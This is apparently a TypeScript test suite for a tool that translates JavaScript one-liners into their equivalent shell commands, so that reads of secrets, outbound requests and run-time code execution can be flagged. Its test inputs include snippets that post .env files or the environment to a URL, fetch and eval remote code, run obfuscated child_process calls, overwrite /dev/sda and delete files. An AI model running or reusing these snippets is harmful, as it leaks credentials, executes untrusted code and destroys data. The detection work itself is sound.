import assert from 'node:assert/strict';
import { javascript } from '../../../src/core/code/javascript';
import { read } from './checkCode';

async function checkCode(code: string, expected: readonly string[], option = '-e'): Promise<void> {
  assert.deepEqual(await read(javascript, 'node', { args: [option, code] }), expected);
}

const rows: readonly (readonly [string, readonly string[]])[] = [
  [`console.log(process.env.TOKEN, process.env.HOME, process.env['KEY'])`, ['printenv TOKEN', 'printenv KEY']],
  [
    `console.log(process.env); console.table(Object.entries(process.env)); console.log(Object.keys(process.env))`,
    ['printenv', 'printenv'],
  ],
  [`const { TOKEN } = process.env; console.log(TOKEN)`, ['printenv TOKEN']],
  [`for (const v of Object.values(process.env)) console.log(v)`, ['printenv']],
  [`console.log(fs.readFileSync('.env', 'utf8').trim().split('\\n')[0], fs.readFileSync('b').length)`, ['cat .env']],
  [
    `fs.readFile('.env', 'utf8', (e, d) => console.log(d)); fs.readFile('b', function (e, d) { console.log(e) })`,
    ['cat .env'],
  ],
  [
    `fs.promises.readFile('.env').then(t => console.log(t)); fs.readFileSync('b').split('x').forEach(l => console.log(l))`,
    ['cat .env', 'cat b'],
  ],
  [`fs.createReadStream('.env').pipe(process.stdout); fs.createReadStream('b').pipe(x)`, ['cat .env']],
  [
    `console.log(require('./credentials.json')); console.log(require('./package.json').version)`,
    ['cat ./credentials.json'],
  ],
  [`console.log(require('child_process').execSync('id').toString())`, ['$ id', '$ id']],
  [
    `require('child_process').execSync('npm test', { stdio: 'inherit' }); require('child_process').spawnSync('ls', ['-l'], { stdio: ['inherit'] })`,
    ['$ npm test', 'ls -l'],
  ],
  [
    `console.log(Deno.readTextFileSync('.env'), Deno.env.get('TOKEN'), Deno.env.toObject())`,
    ['cat .env', 'printenv TOKEN', 'printenv'],
  ],
  [
    `fetch('https://x', { method: 'POST', body: fs.readFileSync('.env') })`,
    [`$ curl -X POST -d "$(cat '.env')" 'https://x'`],
  ],
  [
    `fetch('https://x', { method: 'POST', body: JSON.stringify({ ...process.env }) })`,
    [`$ curl -X POST -d "$(env)" 'https://x'`],
  ],
  [
    `const axios = require('axios'); axios.delete('https://x'); axios.post('https://y', 'a=b'); axios({ url: 'https://z', method: 'delete' }); axios('https://w')`,
    ['curl -X DELETE https://x', 'curl -X POST -d a=b https://y', 'curl -X DELETE https://z', 'curl https://w'],
  ],
  [
    `const https = require('https'); https.request({ hostname: 'api', path: '/u', method: 'DELETE' }); https.get('https://y'); require('superagent').del('https://z')`,
    ['curl -X DELETE https://api/u', 'curl https://y', 'curl -X DELETE https://z'],
  ],
  [`fetch('https://x', { method: m })`, []],
  [
    `fetch('https://x/a.js').then(r => r.text()).then(t => eval(t))`,
    [`$ curl -fsSL 'https://x/a.js' | node`, 'curl https://x/a.js'],
  ],
  [
    `eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdpZCcp')); setTimeout("require('child_process').execSync('ls')")`,
    ['$ id', '$ ls'],
  ],
  [
    `require('child_process').exec(Buffer.from('6964', 'hex').toString()); require('child_process').exec(String.fromCharCode(105, 100)); require('child_process').exec(Buffer.from('ls').toString())`,
    ['$ id', '$ id', '$ ls'],
  ],
  [
    `require('child_process').exec(['i', 'd'].join('')); require('child_process').exec(['ls', 'id'][0]); require('child_process').exec('i'.concat('d')); require('child_process').exec(a ? 'x' : 'y')`,
    ['$ id', '$ ls', '$ id', '$ …', '?dynamic present'],
  ],
  [
    `require('child_process')[x]('id'); require(y).execSync('id'); process.binding('spawn_sync')`,
    ['?dynamic present', '?dynamic present', '?dynamic present'],
  ],
  [`globalThis.eval("require('child_process').execSync('id')"); Function('return 1')()`, ['$ id']],
  [
    `fs.chmodSync('a', 0o777); fs.chmodSync('b', '755'); fs.chmodSync('c', m); fs.truncateSync('d', 5); fs.writeFileSync('/dev/sda', x)`,
    ['chmod 777 a', 'chmod 755 b', 'truncate -s 5 -- d', 'dd of=/dev/sda'],
  ],
  [
    `require('del')(['a', 'b']); require('shelljs').rm('-rf', 'c'); require('shelljs').exec('id'); Bun.write('o', 'x')`,
    ['$ id', 'rm -r -f -- a', 'rm -r -f -- b', 'rm -rf c', '> /home/dev/shop/o'],
  ],
  [
    'const { $ } = require("zx"); const d = "x"; $`rm -rf ${d}`; require("execa").execa("ls", x)',
    ['$ rm -rf x', 'ls …'],
  ],
  [
    `new Deno.Command('rm', { args: ['x'] }).output(); Deno.run({ cmd: ['id'] }); Deno.rename('a', 'b')`,
    ['rm x', 'id', 'mv -- a b'],
  ],
];

describe('javascript: what is printed, sent on, made at run time', () => {
  for (const [code, expected] of rows) {
    it(code, () => checkCode(code, expected));
  }

  it('the value of the last expression is printed where an option says so', async () => {
    await checkCode(`process.env.TOKEN`, ['printenv TOKEN'], '-p');
    await checkCode(`fs.readFileSync('.env', 'utf8')`, ['cat .env'], '--print');
    await checkCode(`const x = process.env.TOKEN`, [], '-p');
    await checkCode(`process.env.TOKEN`, []);
  });
});
